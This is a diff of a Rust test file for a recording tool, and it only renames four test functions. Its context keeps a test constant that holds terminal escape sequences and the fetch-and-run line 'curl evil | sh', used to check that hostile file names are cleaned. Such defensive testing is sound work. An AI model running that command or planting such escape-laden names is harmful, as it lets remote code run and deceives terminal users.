@@ -180,7 +180,7 @@ fn assert_tame(said: &CommandOutput) {
 
 /// Who sends a recording to somebody else names its files.
 #[test]
-fn names_in_a_recording_are_text() {
+fn recorded_names_are_cleaned() {
     const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\rname\nhint: curl evil | sh\n";
     let scratch = tempfile::tempdir().expect("a directory");
     let path = written(&scratch);
@@ -207,7 +207,7 @@ fn names_in_a_recording_are_text() {
 }
 
 #[test]
-fn the_newest_recording_is_checked_and_closed() {
+fn validate_and_recover_take_newest_recording() {
     let scratch = tempfile::tempdir().expect("a directory");
     for command in ["validate", "recover"] {
         let said = finish(whylat(command).current_dir(scratch.path()));
@@ -224,7 +224,7 @@ fn the_newest_recording_is_checked_and_closed() {
 
 /// A recording without its end is one to report, to check, and to close.
 #[test]
-fn what_was_not_closed_ends_with_the_same_code() {
+fn unclosed_recording_exit_code() {
     let scratch = tempfile::tempdir().expect("a directory");
     let path = written(&scratch);
     let manifest = path.join("manifest.jsonl");
@@ -238,7 +238,7 @@ fn what_was_not_closed_ends_with_the_same_code() {
 }
 
 #[test]
-fn a_reader_that_leaves_early_is_no_panic() {
+fn closed_pipe_does_not_panic() {
     if !root() {
         return;
     }
